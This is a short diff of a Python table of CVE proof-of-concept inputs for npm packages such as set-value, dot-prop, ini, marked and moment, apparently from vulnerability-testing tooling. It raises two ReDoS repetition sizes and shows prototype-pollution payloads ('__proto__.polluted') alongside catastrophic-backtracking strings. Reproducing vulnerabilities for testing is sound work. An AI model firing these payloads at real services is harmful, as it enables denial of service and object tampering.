@@ -72,7 +72,7 @@ PROOFS: Final = (
     Proof("CVE-2021-23440", "set-value", "set", _json({"path": [["__proto__"], "polluted"]})),
     Proof("CVE-2020-8116", "dot-prop", "set", _json({"path": "__proto__.polluted"})),
     Proof("CVE-2020-7788", "ini", "parse", b"[__proto__]\npolluted = yes\n"),
-    Proof("CVE-2021-23343", "path-parse", "posix", _grown(80_000, "/", prefix="a", suffix="a\n")),
+    Proof("CVE-2021-23343", "path-parse", "posix", _grown(100_000, "/", prefix="a", suffix="a\n")),
     Proof("CVE-2021-33623", "trim-newlines", "end", _grown(100_000, "\n", suffix="a")),
     Proof("CVE-2018-3750", "deep-extend", "extend", _json(_OWN)),
     Proof("CVE-2023-26115", "word-wrap", "wrap", _grown(80_000, " ", prefix="a", suffix="a")),
@@ -97,7 +97,7 @@ PROOFS: Final = (
         _grown(2_500, " ", prefix="[x]:", middle="x ", closing=" ", suffix=" x"),
     ),
     Proof("CVE-2022-21681", "marked", "parse", _grown(24, "\\[\\](", prefix="[x]: x\n\n")),
-    Proof("CVE-2022-31129", "moment", "parse", _grown(60_000, "(")),
+    Proof("CVE-2022-31129", "moment", "parse", _grown(90_000, "(")),
     Proof(
         "CVE-2021-21315",
         "systeminformation",
